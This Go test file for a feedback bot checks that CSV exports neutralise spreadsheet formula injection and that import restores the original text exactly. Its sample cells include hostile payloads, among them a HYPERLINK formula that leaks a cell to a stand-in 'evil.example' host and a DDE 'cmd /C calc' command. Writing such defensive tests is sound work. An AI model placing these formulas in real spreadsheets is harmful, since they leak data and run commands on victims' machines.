package feedback_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/vosbot/vosbot/feedback"
	"github.com/vosbot/vosbot/feedback/feedbacktest"
)

// formulaTexts start with every character a spreadsheet runs as a formula, and with '
// (which export must escape too, so that import can take exactly one ' off).
var formulaTexts = []string{
	"=1+1",
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
	"+33 6 12 34 56 78",
	"-5% if they sign today",
	"@SUM(A1:A9)",
	"\t=cmd|' /C calc'!A0",
	"\r=1+1",
	"'quoted",
	"''two quotes",
	"'=already guarded by hand",
}

func csvColumn(t *testing.T, recs [][]string, name string) int {
	t.Helper()
	for i, h := range recs[0] {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %s in %v", name, recs[0])
	return -1
}

// TestCSVFormulaCells: a hostile cell never reaches a spreadsheet as a formula (one
// leading ' on export), JSON Lines are not altered, and import takes the ' back off, so
// export → import → export is byte for byte.
func TestCSVFormulaCells(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	src, _, now := newStore(t)
	for i, text := range formulaTexts {
		*now = now.Add(time.Minute)
		d := draft(fmt.Sprint("VF", i))
		d.Account, d.WhatWorked, d.WhatDidnt, d.Verbatim = text, text, text+" and more", text
		f, errs := d.Validate(rules)
		if errs != nil {
			t.Fatalf("%q: %v", text, errs)
		}
		if _, _, err := src.SaveFeedback(ctx, f); err != nil {
			t.Fatal(err)
		}
	}
	var first bytes.Buffer
	if _, err := src.ExportFeedback(ctx, &first, feedback.FormatCSV, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(first.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range formulaTexts {
		row := recs[i+1]
		for _, col := range []string{"account", "what_worked", "what_didnt", "verbatim"} {
			want := "'" + text
			if col == "what_didnt" {
				want += " and more"
			}
			if got := row[csvColumn(t, recs, col)]; got != want {
				t.Errorf("%s exported as %q, want %q", col, got, want)
			}
		}
		if got := row[csvColumn(t, recs, "outcome")]; got != "lost" {
			t.Errorf("a safe cell was altered: %q", got)
		}
	}

	var lines bytes.Buffer
	if _, err := src.ExportFeedback(ctx, &lines, feedback.FormatJSON, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&lines)
	for i := 0; dec.More(); i++ {
		var rec map[string]any
		if err := dec.Decode(&rec); err != nil {
			t.Fatal(err)
		}
		if rec["account"] != formulaTexts[i] || rec["verbatim"] != formulaTexts[i] {
			t.Errorf("JSON line %d altered: account %q", i, rec["account"])
		}
	}

	dst, _, _ := newStore(t)
	rep, err := dst.ImportFeedback(ctx, bytes.NewReader(first.Bytes()), rules)
	if err != nil || rep.Imported != len(formulaTexts) || len(rep.Refused) != 0 {
		t.Fatalf("import: %+v %v", rep, err)
	}
	var back bytes.Buffer
	if _, err := dst.ExportFeedback(ctx, &back, feedback.FormatJSON, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	dec = json.NewDecoder(&back)
	for i := 0; dec.More(); i++ {
		var rec map[string]any
		if err := dec.Decode(&rec); err != nil {
			t.Fatal(err)
		}
		if rec["account"] != formulaTexts[i] || rec["what_didnt"] != formulaTexts[i]+" and more" {
			t.Errorf("imported %q, want %q", rec["account"], formulaTexts[i])
		}
	}
	var second bytes.Buffer
	if _, err := dst.ExportFeedback(ctx, &second, feedback.FormatCSV, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	if first.String() != second.String() {
		t.Errorf("export → import → export changed the file:\nfirst:\n%q\nsecond:\n%q", first.String(), second.String())
	}
}

// TestImportRemovesOneQuote: import takes exactly one leading ' off any cell, whatever
// wrote the file.
func TestImportRemovesOneQuote(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s, _, _ := newStore(t)
	in := "outcome,account,what_didnt,competitors\n" +
		"lost,'=1+1,''quoted,'=Gong;Clari\n" +
		"'lost,'Plain,it's fine',\n"
	rep, err := s.ImportFeedback(ctx, strings.NewReader(in), rules)
	if err != nil || rep.Imported != 2 {
		t.Fatalf("import: %+v %v", rep, err)
	}
	var out bytes.Buffer
	if _, err := s.ExportFeedback(ctx, &out, feedback.FormatJSON, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	dec := json.NewDecoder(&out)
	var got []string
	for dec.More() {
		var rec map[string]any
		if err := dec.Decode(&rec); err != nil {
			t.Fatal(err)
		}
		got = append(got, fmt.Sprint(rec["account"], "|", rec["what_didnt"], "|", rec["competitors"]))
	}
	if want := "=1+1|'quoted|[=Gong Clari];Plain|it's fine'|[]"; strings.Join(got, ";") != want {
		t.Errorf("imported %q, want %q", strings.Join(got, ";"), want)
	}
}

// TestEscalationsCSVFormulaCells: the escalations export guards its text cells too.
func TestEscalationsCSVFormulaCells(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	s, _, _ := newStore(t)
	cfg := feedbacktest.Org()
	for i, text := range formulaTexts {
		e, errs := feedback.EscalationDraft{ReporterID: "U0REP", Team: "product", Account: text, Severity: "high",
			Summary: text, Needed: text, Source: feedback.SourceSlashCommand, Key: fmt.Sprint("VE", i)}.Validate(cfg)
		if errs != nil {
			t.Fatalf("%q: %v", text, errs)
		}
		if _, _, err := s.RaiseEscalation(ctx, cfg, e); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := s.ExportEscalations(ctx, &buf, feedback.FormatCSV, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range formulaTexts {
		for _, col := range []string{"account", "summary"} {
			if got := recs[i+1][csvColumn(t, recs, col)]; got != "'"+text {
				t.Errorf("escalation %s exported as %q, want %q", col, got, "'"+text)
			}
		}
	}
	var lines bytes.Buffer
	if _, err := s.ExportEscalations(ctx, &lines, feedback.FormatJSON, feedback.Period{}); err != nil {
		t.Fatal(err)
	}
	if first, _, _ := strings.Cut(lines.String(), "\n"); !strings.Contains(first, `"summary":"=1+1"`) {
		t.Errorf("JSON line altered: %s", first)
	}
}
